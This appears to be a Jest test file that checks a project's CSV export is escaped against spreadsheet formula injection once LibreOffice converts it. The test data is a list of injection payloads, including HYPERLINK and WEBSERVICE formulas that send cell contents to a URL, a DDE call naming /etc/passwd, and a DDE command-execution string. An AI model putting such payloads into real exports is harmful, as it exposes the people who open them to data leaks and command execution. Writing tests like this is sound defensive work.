import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { csv } from '@lethe/server/testing';
import { runProgram } from '../shared/programs.ts';

/** What a host, or somebody in it, might call a ticket so that whoever opens the export runs it. */
const formulas = [
  '=1+1',
  '=HYPERLINK("http://127.0.0.1:9/?x="&A1,"open")',
  '=WEBSERVICE("http://127.0.0.1:9/"&A1)',
  '=DDE("soffice","/etc/passwd","A1")',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  "=cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '＝1+1',
  '"=1+1',
  '",=1+1,"',
  '";=1+1;"',
] as const;
const place: { folder?: string } = {};

beforeAll(async () => {
  place.folder = await mkdtemp(join(tmpdir(), 'lethe-spreadsheet-'));
});
afterAll(async () => rm(place.folder ?? '', { recursive: true, force: true }));

/** A table as LibreOffice reads it, as the XML it would keep it in. */
async function opened(name: string, table: string): Promise<string> {
  const folder = place.folder ?? '';
  const file = join(folder, `${name}.csv`);
  await writeFile(file, table);
  const profile = `-env:UserInstallation=file://${folder}/profile`;
  await runProgram(['soffice', profile, '--headless', '--norestore', '--convert-to', 'fods', '--outdir', folder, file]);
  return readFile(join(folder, `${name}.fods`), 'utf8');
}

describe('an export opened in LibreOffice', () => {
  it('S7 holds no formula, whatever a host calls its tickets', async () => {
    const xml = await opened('ours', csv([['what', 'label', 'how many'], ...formulas.map((text) => ['gap', text, 7])]));
    expect(xml).not.toContain('table:formula');
    expect(xml.match(/<text:p>7<\/text:p>/gu)).toHaveLength(formulas.length);
  }, 120_000);

  it('would hold some if the texts were written as they are', async () => {
    const plain = formulas.map((text) => `gap,"${text.replaceAll('"', '""')}",7\r\n`).join('');
    expect(await opened('plain', plain)).toContain('table:formula');
  }, 120_000);
});
